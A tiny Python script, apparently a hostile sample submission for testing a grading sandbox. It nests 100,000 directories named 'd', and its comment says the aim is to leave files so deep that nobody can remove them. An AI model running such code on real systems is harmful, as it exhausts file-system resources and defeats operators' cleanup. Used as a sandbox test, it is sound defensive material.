# tries: to leave so many files, so deep, that nobody can take them away
# ends: ungraded or graded
import os

for number in range(100_000):
    os.mkdir("d")
    os.chdir("d")
